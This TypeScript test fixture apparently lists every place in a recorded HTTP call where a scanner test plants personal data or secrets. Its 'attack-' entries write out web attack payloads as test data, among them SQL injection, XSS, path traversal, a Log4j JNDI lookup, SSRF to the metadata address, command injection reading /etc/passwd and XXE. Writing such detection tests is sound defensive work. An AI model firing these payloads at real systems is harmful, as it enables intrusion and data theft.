import type { PlantedKind } from './planted-people.ts';

/** A native call record that is being filled; a string body is sent as it is. */
export interface PlantedCall {
  method: string;
  host: string;
  path: string;
  query: string;
  status: number;
  client: { address: string; id?: string };
  gateway?: Record<string, string>;
  id?: string;
  request: { headers: Record<string, string>; body?: string };
  response: { headers: Record<string, string>; body?: string };
  [other: string]: unknown;
}

/**
 * `value`: its form may say what it is, its place does. `name`: the place takes names chosen by whoever calls.
 * `literal`: a name in path or host that a local report may show as provisional, unless its own form tells.
 */
export type PlaceKind = 'value' | 'name' | 'literal';

export interface PlantedPosition {
  readonly id: string;
  readonly kind: PlaceKind;
  /** Returns the text as it was written, where that differs from the value. */
  readonly place: (call: PlantedCall, value: string, kind: PlantedKind) => string | undefined;
}

const HTTP_TOKEN = /[^A-Za-z0-9_.-]/g;
const WORD = /[^A-Za-z0-9_]/g;
const enc = encodeURIComponent;

const json = (call: PlantedCall, body: unknown): void => {
  call.method = 'POST';
  call.request.headers['content-type'] = 'application/json';
  call.request.body = JSON.stringify(body);
};

const answer = (call: PlantedCall, body: unknown): void => {
  call.response.headers['content-type'] = 'application/json';
  call.response.body = JSON.stringify(body);
};

const send = (call: PlantedCall, type: string, body: string): void => {
  call.method = 'POST';
  call.request.headers['content-type'] = type;
  call.request.body = body;
};

const position = (
  id: string,
  kind: PlaceKind,
  place: (call: PlantedCall, value: string, kind: PlantedKind) => unknown,
): PlantedPosition => ({
  id,
  kind,
  place: (call, value, planted) => {
    const written = place(call, value, planted);
    return typeof written === 'string' && written !== value ? written : undefined;
  },
});

const value = (id: string, place: (call: PlantedCall, value: string, kind: PlantedKind) => unknown) =>
  position(id, 'value', (call, text, kind) => void place(call, text, kind));
const name = (id: string, place: (call: PlantedCall, value: string, kind: PlantedKind) => unknown) =>
  position(id, 'name', place);
const literal = (id: string, place: (call: PlantedCall, value: string) => unknown) =>
  position(id, 'literal', place);

/** Starts with a letter or `_`, as names of elements and operations do. */
const xmlName = (text: string): string => text.replace(WORD, '_').replace(/^(?=[0-9])/, '_');

const multipart = (field: string, file: string, content: string): string =>
  `--B0\r\nContent-Disposition: form-data; name="${field}"; filename="${file}"\r\nContent-Type: text/plain\r\n\r\n${content}\r\n--B0--\r\n`;

const graphql = (call: PlantedCall, query: string, variables: object, operationName?: string): void => {
  call.path = '/graphql';
  json(call, { query, variables, operationName });
  answer(call, { data: { node: { id: 1 } } });
};

const soap = (content: string): string =>
  `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>${content}</soap:Body></soap:Envelope>`;

/** Every place of a call that whoever sends or answers it can fill. */
export const PLANTED_POSITIONS: readonly PlantedPosition[] = [
  name('path-under-people', (call, v) => void (call.path = `/v1/customers/${enc(v)}/orders`)),
  name('path-under-people-last', (call, v) => void (call.path = `/v1/users/${enc(v)}`)),
  literal('path-under-noun', (call, v) => (call.path = `/v1/items/${enc(v)}/parts`)),
  literal('path-first', (call, v) => (call.path = `/${enc(v)}/status`)),
  literal('path-with-extension', (call, v) => (call.path = `/v1/files/${enc(v)}.json`)),
  literal('path-with-verb', (call, v) => (call.path = `/v1/files/17:${enc(v)}`)),
  literal('path-matrix', (call, v) => (call.path = `/v1/reports;owner=${enc(v)}/latest`)),
  literal('path-odata-key', (call, v) => (call.path = `/v1/Orders('${enc(v)}')`)),
  literal('path-odata-name', (call, v) => {
    const written = v.replace(WORD, '_');
    call.path = `/v1/${written}(17)`;
    return written;
  }),
  literal('path-refused', (call, v) => {
    call.path = `/v1/things/${enc(v)}`;
    call.status = 401;
  }),
  literal('path-not-found', (call, v) => {
    call.path = `/nowhere/${enc(v)}`;
    call.status = 404;
  }),
  literal('path-fully-encoded', (call, v) => {
    call.path = `/v1/codes/${[...Buffer.from(v)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')}`;
  }),
  literal('path-after-prefix', (call, v) => (call.path = `/v1/accounts/by-${enc(v)}/x`)),
  value('query-value', (call, v) => (call.query = `email=${enc(v)}&q=1`)),
  value('query-plain-name', (call, v) => (call.query = `q=${enc(v)}`)),
  value('query-token', (call, v) => (call.query = `access_token=${enc(v)}`)),
  value('query-unescaped', (call, v) => (call.query = `x=${v}`)),
  name('query-name', (call, v) => (call.query = `${enc(v)}=1`)),
  name('query-name-nested', (call, v) => (call.query = `filter[${enc(v)}][eq]=1`)),
  name('fragment', (call, v) => void (call.path = `/v1/pages/home#${enc(v)}`)),
  value('header-value', (call, v) => (call.request.headers['x-customer'] = v)),
  value('header-api-key', (call, v) => (call.request.headers['x-api-key'] = v)),
  name('header-name', (call, v) => {
    const written = `x-${v.replace(HTTP_TOKEN, '-')}`;
    call.request.headers[written] = '1';
    return written;
  }),
  name('response-header-name', (call, v) => {
    const written = `x-${v.replace(HTTP_TOKEN, '-')}`;
    call.response.headers[written] = '1';
    return written;
  }),
  value('bearer', (call, v) => (call.request.headers['authorization'] = `Bearer ${v}`)),
  value('unknown-scheme', (call, v) => (call.request.headers['authorization'] = v)),
  value('scheme-parameter', (call, v) => {
    call.request.headers['authorization'] =
      `Digest username="${v}", realm="${v}", nonce="1", uri="/", response="0"`;
  }),
  value('basic-user', (call, v) => {
    call.request.headers['authorization'] = `Basic ${Buffer.from(`${v}:x`).toString('base64')}`;
  }),
  value('basic-password', (call, v) => {
    call.request.headers['authorization'] = `Basic ${Buffer.from(`app:${v}`).toString('base64')}`;
  }),
  value('cookie-value', (call, v) => (call.request.headers['cookie'] = `theme=dark; who=${enc(v)}`)),
  name('cookie-name', (call, v) => {
    const written = v.replace(HTTP_TOKEN, '-');
    call.request.headers['cookie'] = `${written}=1`;
    return written;
  }),
  value('set-cookie-value', (call, v) => (call.response.headers['set-cookie'] = `sid=${enc(v)}; Path=/`)),
  name('set-cookie-name', (call, v) => {
    const written = v.replace(HTTP_TOKEN, '-');
    call.response.headers['set-cookie'] = `${written}=1; Path=/${written}; Domain=shop.example`;
    return written;
  }),
  value('referer', (call, v) => (call.request.headers['referer'] = `https://www.shop.example/?u=${enc(v)}`)),
  value('user-agent', (call, v) => (call.request.headers['user-agent'] = `okhttp/4.12 (${v})`)),
  value('user-agent-scanner', (call, v) => (call.request.headers['user-agent'] = `sqlmap/1.8 (${v})`)),
  value(
    'origin',
    (call, v) => (call.request.headers['origin'] = `https://${v.replace(HTTP_TOKEN, '-')}.example`),
  ),
  value('location', (call, v) => {
    call.status = 302;
    call.response.headers['location'] = `https://www.shop.example/welcome?for=${enc(v)}`;
  }),
  value('www-authenticate', (call, v) => {
    call.status = 401;
    call.response.headers['www-authenticate'] = `Bearer realm="${v}", error="invalid"`;
  }),
  value('server-header', (call, v) => (call.response.headers['server'] = v)),
  value('cors-origin', (call, v) => {
    call.response.headers['access-control-allow-origin'] = `https://${v.replace(HTTP_TOKEN, '-')}.example`;
    call.response.headers['access-control-allow-credentials'] = 'true';
  }),
  value('sunset', (call, v) => {
    call.response.headers['sunset'] = v;
    call.response.headers['deprecation'] = v;
  }),
  value('link-header', (call, v) => (call.response.headers['link'] = `</next?u=${enc(v)}>; rel="next"`)),
  name('media-type', (call, v) => {
    const written = v.replace(HTTP_TOKEN, '-');
    send(call, `application/vnd.${written}+json; profile="${written}"`, '{"a":1}');
    return written;
  }),
  name('media-type-whole', (call, v) => {
    const written = v.replace(HTTP_TOKEN, '-');
    call.response.headers['content-type'] = `x-${written}/${written}`;
    call.response.body = 'text';
    return written;
  }),
  value('client-id', (call, v) => (call.client.id = v)),
  value('forwarded-for', (call, v) => (call.request.headers['x-forwarded-for'] = `${v}, 203.0.113.9`)),
  literal('gateway-api', (call, v) => void (call.gateway = { id: 'kong-prod', api: v, route: v })),
  literal('gateway-id', (call, v) => void (call.gateway = { id: v, api: '1', route: '2' })),
  value('record-id', (call, v) => (call.id = v)),
  value('unknown-member', (call, v) => (call[v] = v)),
  value('json-value', (call, v) => json(call, { name: 'x', contact: { email: v, list: [v, { deep: v }] } })),
  value('json-number-or-text', (call, v) =>
    json(call, { n: Number.isSafeInteger(Number(v)) ? Number(v) : v }),
  ),
  value('json-root', (call, v) => json(call, v)),
  value('json-in-text', (call, v) => json(call, { payload: JSON.stringify({ inner: { email: v } }) })),
  value('json-by-key', (call, v, kind) => json(call, { [KEYS[kind]]: v })),
  name('json-key', (call, v) => json(call, { [v]: 1 })),
  name('json-key-nested', (call, v) =>
    json(call, { byPerson: { [v]: { score: 3 } }, list: [{ [v]: true }] }),
  ),
  value('json-response', (call, v, kind) => answer(call, { items: [{ [KEYS[kind]]: v, note: `for ${v}` }] })),
  name('json-response-key', (call, v) => answer(call, { index: { [v]: { ok: true } } })),
  value('json-broken', (call, v) => send(call, 'application/json', `{"email":"${v}","x":`)),
  value('ndjson', (call, v) => send(call, 'application/x-ndjson', `{"a":"${v}"}\n{"b":"${v}"}\n`)),
  value('login', (call, v) => {
    call.path = '/auth/v1/login';
    json(call, { username: v, password: v });
    call.status = 401;
  }),
  value('error-body', (call, v) => {
    call.status = 500;
    call.response.headers['content-type'] = 'text/plain';
    call.response.body = `java.sql.SQLException: Duplicate entry '${v}' for key 'users.email'\n\tat com.shop.User.save(User.java:17)`;
  }),
  value('error-json', (call, v) => {
    call.status = 500;
    answer(call, {
      error: { message: `ERROR: column "${v}" does not exist`, trace: [`at ${v} (/srv/app.js:1:2)`] },
    });
  }),
  value('form-value', (call, v) => send(call, 'application/x-www-form-urlencoded', `email=${enc(v)}&a=1`)),
  name('form-name', (call, v) => send(call, 'application/x-www-form-urlencoded', `${enc(v)}=1`)),
  value('multipart-value', (call, v) =>
    send(call, 'multipart/form-data; boundary=B0', multipart('note', 'a.txt', v)),
  ),
  name('multipart-file', (call, v) =>
    send(call, 'multipart/form-data; boundary=B0', multipart('upload', `${v}.pdf`, 'x')),
  ),
  name('multipart-name', (call, v) =>
    send(call, 'multipart/form-data; boundary=B0', multipart(v, 'a.txt', 'x')),
  ),
  value('xml-text', (call, v) =>
    send(call, 'application/xml', `<order><buyer mail="${v}">${v}</buyer></order>`),
  ),
  name('xml-element', (call, v) => {
    const written = xmlName(v);
    send(call, 'application/xml', `<order><${written} ${written}="1">1</${written}></order>`);
    return written;
  }),
  value('xml-comment', (call, v) =>
    send(call, 'application/xml', `<order><!-- ${v} --><![CDATA[${v}]]><?pi ${v}?></order>`),
  ),
  value('plain-text', (call, v) => send(call, 'text/plain', `Dear ${v}, your code is ${v}.`)),
  value('binary', (call, v) => send(call, 'application/octet-stream', `\u0000\u0001${v}\u0000`)),
  value('soap-value', (call, v) => {
    call.path = '/soap/Billing';
    send(call, 'text/xml', soap(`<GetInvoice><for>${v}</for></GetInvoice>`));
  }),
  literal('soap-operation', (call, v) => {
    const written = xmlName(v);
    call.path = '/soap/Billing';
    send(call, 'text/xml', soap(`<${written}/>`));
    call.request.headers['soapaction'] = `"urn:${written}"`;
    return written;
  }),
  value('graphql-variable', (call, v) =>
    graphql(call, 'query Node($who: String) { node(who: $who) { id } }', { who: v, [v]: 1 }),
  ),
  value('graphql-inline', (call, v) =>
    graphql(call, `query Node { node(who: ${JSON.stringify(v)}) { id } } # ${v}`, {}),
  ),
  literal('graphql-operation', (call, v) => {
    const written = xmlName(v);
    graphql(call, `query ${written} { node { id } }`, {}, written);
    return written;
  }),
  name('graphql-field', (call, v) => {
    const written = `f${v.replace(WORD, '_')}`;
    graphql(call, `query Node { ${written}: node { ${written} } }`, {});
    return written;
  }),
  value('jsonrpc-parameter', (call, v) => {
    call.path = '/rpc';
    json(call, { jsonrpc: '2.0', method: 'get', params: { who: v }, id: v });
  }),
  literal('jsonrpc-method', (call, v) => {
    call.path = '/rpc';
    json(call, { jsonrpc: '2.0', method: `get.${v}`, params: [], id: 1 });
  }),
  literal('host-label', (call, v) => {
    const written = v.replace(/[^A-Za-z0-9-]/g, '-').slice(0, 60);
    call.host = `${written}.shop.example`;
    return written;
  }),
  literal('host-label-refused', (call, v) => {
    const written = v.replace(/[^A-Za-z0-9-]/g, '-').slice(0, 60);
    call.host = `${written}.tenants.example`;
    call.status = 404;
    return written;
  }),
  value('user-info', (call, v) => (call.host = `${enc(v)}@api.shop.example`)),
  value('absolute-target', (call, v) => (call.path = `https://${enc(v)}:x@api.shop.example/v1/orders`)),
  value(
    'attack-sql-query',
    (call, v) => (call.query = `id=${enc(`1' OR email='${v}' UNION SELECT 1,2 -- `)}`),
  ),
  value('attack-sql-body', (call, v) => {
    json(call, { id: `1'; DROP TABLE users; -- ${v}` });
    call.status = 500;
    call.response.body = `You have an error in your SQL syntax near '${v}' at line 1`;
  }),
  value('attack-xss', (call, v) => (call.query = `q=${enc(`<script>alert('${v}')</script>`)}`)),
  value('attack-path', (call, v) => (call.path = `/v1/files/..%2f..%2fetc%2f${enc(v)}`)),
  value('attack-log4j', (call, v) => {
    call.request.headers['user-agent'] = `\${jndi:ldap://${v.replace(HTTP_TOKEN, '-')}.example/${v}}`;
  }),
  value('attack-ssrf', (call, v) => (call.query = `url=${enc(`http://169.254.169.254/latest/${v}`)}`)),
  value('attack-crlf', (call, v) => (call.query = `next=%0d%0aSet-Cookie:%20sid=${enc(v)}`)),
  value('attack-command', (call, v) => json(call, { host: `x; cat /etc/passwd # ${v}` })),
  value('attack-nosql', (call, v) => json(call, { user: { $ne: v }, pass: { $regex: v } })),
  value('attack-template', (call, v) => (call.query = `name=${enc(`{{7*7}}${v}`)}`)),
  value('attack-xxe', (call, v) =>
    send(call, 'application/xml', `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///${v}">]><x>&e;</x>`),
  ),
  value('bad-method', (call, v) => (call.method = v)),
  value('bad-time', (call, v) => (call['time'] = v)),
  value('bad-status', (call, v) => (call['status'] = v as unknown as number)),
  value('bad-host', (call, v) => (call.host = `${v} /\\`)),
  value('bad-scheme', (call, v) => (call['scheme'] = v)),
  value('bad-client', (call, v) => (call.client.address = v)),
  value('bad-latency', (call, v) => (call['latencyMs'] = v)),
];

const KEYS: Readonly<Record<PlantedKind, string>> = {
  name: 'fullName',
  email: 'email',
  phone: 'phone',
  card: 'cardNumber',
  iban: 'iban',
  ssn: 'ssn',
  jwt: 'accessToken',
  'stripe-key': 'apiKey',
  'aws-key': 'awsAccessKeyId',
  'github-token': 'token',
  password: 'password',
};
